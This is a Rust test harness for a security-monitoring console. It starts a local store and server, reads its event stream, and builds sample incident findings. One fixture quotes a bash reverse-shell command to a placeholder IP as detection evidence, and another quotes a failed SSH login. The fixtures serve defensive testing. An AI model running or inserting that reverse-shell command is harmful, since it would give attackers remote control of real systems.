//! Store with a console in front of it, in a folder of its own.

use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::AtomicBool;
use std::thread::JoinHandle;
use std::time::Duration;

use bytes::Bytes;
use futures_util::future::BoxFuture;
use jiff::Timestamp;
use reqwest::{Client, Method, Response, StatusCode};
use serde_json::Value;
use tempfile::TempDir;
use tokio_util::sync::CancellationToken;
use utoipa_axum::router::OpenApiRouter;
use watchtower::analysts::agents_file::AgentsFileHandle;
use watchtower::analysts::budget::settings::Limits;
use watchtower::analysts::budget::{Budget, Prices};
use watchtower::base::stream_name::StreamName;
use watchtower::console::{Console, ConsoleSettings, ConsoleState, Endpoints, ShareLinks};
use watchtower::domain::agent_status::AgentBoard;
use watchtower::domain::finding::{
    Category, Evidence, Finding, FrameRef, ModelRef, Observation, Severity,
};
use watchtower::domain::sink_status::SinkBoard;
use watchtower::media::MediaTime;
use watchtower::media::hub::StreamHub;
use watchtower::models::model::{Answered, Failure, QuestionAnswerer};
use watchtower::record::Record;
use watchtower::record::settings::StoreSettings;
use watchtower::record::store::Publication;
use watchtower::screen::frame::Frame;
use watchtower::screen::frames::FrameBus;
use watchtower::screen::picture::Picture;
use watchtower::screen::redact::{Redact, RedactedFrame, RedactedJpeg};

/// Still with those bytes as its file: the encoder stores the samples.
fn still_of(bytes: &[u8]) -> RedactedJpeg {
    let picture = Picture {
        width: bytes.len() as u32,
        height: 1,
        y: bytes.to_vec(),
        u: Vec::new(),
        v: Vec::new(),
    };
    let frame = Frame::new(
        StreamName::new("team").unwrap(),
        1,
        MediaTime(0),
        Timestamp::UNIX_EPOCH,
        Arc::new(picture),
        |picture| Ok(Bytes::from(picture.y.clone())),
    );
    let redacted = RedactedFrame::of(&Arc::new(frame), Redact::Off).unwrap();
    redacted.still().unwrap()
}

/// Settings without a model.
#[derive(Debug)]
struct NoAnswerer;

impl QuestionAnswerer for NoAnswerer {
    fn put(
        &self,
        _question: String,
        _record: Vec<String>,
    ) -> BoxFuture<'_, Option<Result<Answered, Failure>>> {
        Box::pin(std::future::ready(None))
    }
}

pub(crate) struct StoreHarness {
    pub(crate) dir: TempDir,
    pub(crate) bus: Record,
    /// Stream without OCR.
    pub(crate) frames: FrameBus,
    pub(crate) shares: ShareLinks,
    writer: JoinHandle<()>,
    base: String,
    client: Client,
    shutdown: CancellationToken,
    server: tokio::task::JoinHandle<std::io::Result<()>>,
}

pub(crate) fn open(dir: &Path, settings: &StoreSettings) -> (Record, JoinHandle<()>) {
    Record::open(&dir.join("data"), &dir.join("logs"), &[], settings).unwrap()
}

impl StoreHarness {
    pub(crate) async fn new() -> Self {
        Self::with(StoreSettings::default()).await
    }

    pub(crate) async fn with(settings: StoreSettings) -> Self {
        Self::at(tempfile::tempdir().unwrap(), settings).await
    }

    /// Opens with one incident, of the default finding; returns its id.
    pub(crate) async fn with_incident() -> (Self, String) {
        let harness = Self::new().await;
        let finding = FindingFixture::default().finding();
        harness.bus.publish(finding).await.unwrap();
        let id = id_of(&harness.json("/api/incidents").await, 0);
        (harness, id)
    }

    async fn at(dir: TempDir, settings: StoreSettings) -> Self {
        let (bus, writer) = open(dir.path(), &settings);
        let console = Console::bind(ConsoleSettings {
            address: "127.0.0.1:0".parse().unwrap(),
            token: None,
            allowed_origins: vec![],
            tls: None,
            inbound_secret: None,
        });
        let console = console.await.unwrap();
        let base = format!("http://{}", console.local_addr().unwrap());
        let frames = FrameBus::new();
        let shares = ShareLinks::open(&bus).await.unwrap();
        let views = ConsoleState {
            hub: StreamHub::new(),
            // Nobody answers: there is no such file.
            agents_file: AgentsFileHandle::new().0,
            frames: frames.clone(),
            findings: bus.clone(),
            board: AgentBoard::new(vec![]),
            metrics: Arc::default(),
            analyst_metrics: Arc::default(),
            registry: Arc::default(),
            sink_board: SinkBoard::default(),
            push: None,
            shares: shares.clone(),
            budget: Budget::new(Limits::default(), Prices::load(None).unwrap()),
            endpoints: Endpoints {
                rtmp: "127.0.0.1:1935".parse().unwrap(),
                rtmps: None,
                stream_key: false,
                public_address: None,
            },
            answers: Arc::new(NoAnswerer),
            redact: Redact::Secrets,
            ready: Arc::new(AtomicBool::new(true)),
        };
        let shutdown = CancellationToken::new();
        let server = tokio::spawn(console.run(
            views,
            OpenApiRouter::new(),
            OpenApiRouter::new(),
            shutdown.clone(),
        ));
        Self {
            dir,
            bus,
            frames,
            shares,
            writer,
            base,
            client: watchtower::base::http_client::plain()
                .no_proxy()
                .build()
                .unwrap(),
            shutdown,
            server,
        }
    }

    /// Shuts down cleanly and opens the same folder again.
    pub(crate) async fn restarted(self, settings: StoreSettings) -> Self {
        self.shutdown.cancel();
        self.server.await.unwrap().unwrap();
        drop((self.bus, self.shares));
        let writer = self.writer;
        tokio::task::spawn_blocking(move || writer.join().unwrap())
            .await
            .unwrap();
        Self::at(self.dir, settings).await
    }

    /// Response of a path itself, without following redirects.
    pub(crate) async fn unfollowed(&self, method: Method, path: &str) -> Response {
        let stays = reqwest::redirect::Policy::none();
        let client = watchtower::base::http_client::plain()
            .no_proxy()
            .redirect(stays)
            .build()
            .unwrap();
        let url = format!("{}{path}", self.base);
        client.request(method, url).send().await.unwrap()
    }

    pub(crate) async fn get(&self, path: &str) -> Response {
        self.client
            .get(format!("{}{path}", self.base))
            .send()
            .await
            .unwrap()
    }

    pub(crate) async fn json(&self, path: &str) -> Value {
        let response = self.get(path).await;
        let status = response.status();
        let body: Value = response.json().await.unwrap();
        assert_eq!(status, StatusCode::OK, "{path}: {body}");
        body
    }

    /// Titles of the incidents of a list.
    pub(crate) async fn titles(&self, path: &str) -> Vec<String> {
        let list = self.json(path).await;
        let items = list["items"].as_array().unwrap();
        let title = |item: &Value| item["title"].as_str().unwrap().to_owned();
        items.iter().map(title).collect()
    }

    pub(crate) async fn set_status(&self, id: &str, body: Value) -> (StatusCode, Value) {
        let url = format!("{}/api/incidents/{id}/status", self.base);
        let response = self.client.post(url).json(&body).send().await.unwrap();
        (response.status(), response.json().await.unwrap())
    }

    pub(crate) fn request(&self, method: Method, path: &str) -> reqwest::RequestBuilder {
        self.client.request(method, format!("{}{path}", self.base))
    }

    /// Reads the event stream until `enough` of its events have arrived.
    pub(crate) async fn events(&self, last: Option<&str>, enough: usize) -> Vec<ReceivedEvent> {
        self.listen(last).await.next(enough).await
    }

    /// Subscribes to the event stream, which contains everything after this
    /// returns.
    pub(crate) async fn listen(&self, last: Option<&str>) -> Listener {
        let mut request = self.client.get(format!("{}/api/events", self.base));
        if let Some(last) = last {
            request = request.header("last-event-id", last);
        }
        Listener {
            response: request.send().await.unwrap(),
            text: String::new(),
            taken: 0,
        }
    }

    /// Subscribes to the event stream and waits until it is past its backlog,
    /// so that every later change is sent live. Only an event shows that it is,
    /// so this finding is published, and has to be the first event.
    pub(crate) async fn listen_live(&self, last: Option<&str>, finding: Finding) -> Listener {
        let mut listener = self.listen(last).await;
        let published = self.bus.publish(finding).await.unwrap();
        for event in listener.next(2).await {
            let (of, id) = match event.kind.as_str() {
                "finding" => (&event.data["id"], Some(published.id)),
                _ => (&event.data["incident"]["id"], published.incident),
            };
            assert_eq!(*of, id.unwrap().to_string(), "{last:?}: {event:?}");
        }
        listener
    }
}

/// Client of the event stream.
pub(crate) struct Listener {
    response: Response,
    text: String,
    taken: usize,
}

impl Listener {
    /// New events, once there are at least `enough`.
    pub(crate) async fn next(&mut self, enough: usize) -> Vec<ReceivedEvent> {
        let read = async {
            loop {
                let mut events = parse(&self.text);
                if events.len() >= self.taken + enough {
                    return events.split_off(self.taken);
                }
                let chunk = self.response.chunk().await.unwrap().unwrap();
                self.text.push_str(std::str::from_utf8(&chunk).unwrap());
            }
        };
        let new = tokio::time::timeout(Duration::from_secs(60), read).await;
        let new = new.unwrap_or_else(|_| panic!("fewer than {enough} more events: {}", self.text));
        self.taken += new.len();
        new
    }
}

/// A `finding` or `incident` event.
#[derive(Debug)]
pub(crate) struct ReceivedEvent {
    pub(crate) id: String,
    pub(crate) kind: String,
    pub(crate) data: Value,
}

fn parse(text: &str) -> Vec<ReceivedEvent> {
    let whole = text.rsplit_once("\n\n").map_or("", |(whole, _)| whole);
    let blocks = whole.split("\n\n").filter_map(|block| {
        let field = |name: &str| {
            block
                .lines()
                .find_map(|line| line.strip_prefix(name)?.strip_prefix(": "))
        };
        Some(ReceivedEvent {
            id: field("id")?.to_owned(),
            kind: field("event")?.to_owned(),
            data: serde_json::from_str(field("data")?).ok()?,
        })
    });
    blocks.collect()
}

/// Id of the item at that position of a list.
pub(crate) fn id_of(list: &Value, at: usize) -> String {
    list["items"][at]["id"].as_str().unwrap().to_owned()
}

/// Report of one agent about one event.
#[derive(Debug, Clone)]
pub(crate) struct FindingFixture<'a> {
    pub(crate) agent: &'a str,
    pub(crate) severity: Severity,
    pub(crate) category: Category,
    pub(crate) title: &'a str,
    pub(crate) quotes: &'a [&'a str],
    pub(crate) at: Timestamp,
}

pub(crate) const FAILED: &str = "Failed password for admin from 203.0.113.45 port 51502 ssh2";

pub(crate) const SHELL: FindingFixture<'_> = FindingFixture {
    agent: "SecOps",
    severity: Severity::Critical,
    category: Category::SuspiciousCommand,
    title: "Reverse shell",
    quotes: &["bash -i >& /dev/tcp/203.0.113.45/4444 0>&1"],
    at: Timestamp::UNIX_EPOCH,
};

impl Default for FindingFixture<'_> {
    fn default() -> Self {
        Self {
            agent: "SecOps",
            severity: Severity::High,
            category: Category::Intrusion,
            title: "Burst of failed logins for admin",
            quotes: &[FAILED],
            at: "2026-11-23T09:00:00Z".parse().unwrap(),
        }
    }
}

impl FindingFixture<'_> {
    pub(crate) fn finding(&self) -> Finding {
        let evidence = self.quotes.iter().map(|quote| Evidence {
            quote: (*quote).to_owned(),
            bounds: Some([10, 20, 30, 40]),
            grounded: Some(true),
        });
        let observation = Observation {
            severity: self.severity,
            confidence: 0.9,
            category: self.category,
            title: self.title.to_owned(),
            detail: format!("{} says so.", self.agent),
            evidence: evidence.collect(),
            mitre: vec![],
            recommended_action: "Look into it.".to_owned(),
        };
        let frame = FrameRef {
            seq: 7,
            pts_ms: 12_300,
            sha256: "ab".repeat(32),
        };
        let model = ModelRef {
            provider: "fake".to_owned(),
            name: "parrot".to_owned(),
            version: "1".to_owned(),
            prompt: String::new(),
        };
        let stream = StreamName::new("team").unwrap();
        Finding::new(self.agent, stream, self.at, frame, observation, model)
    }

    pub(crate) fn with_still(&self, jpeg: &'static [u8]) -> Publication {
        Publication {
            finding: self.finding(),
            still: Some(still_of(jpeg)),
            asked: None,
        }
    }

    pub(crate) fn later(&self, minutes: i64) -> Self {
        let at = self.at + jiff::SignedDuration::from_mins(minutes);
        Self { at, ..self.clone() }
    }
}
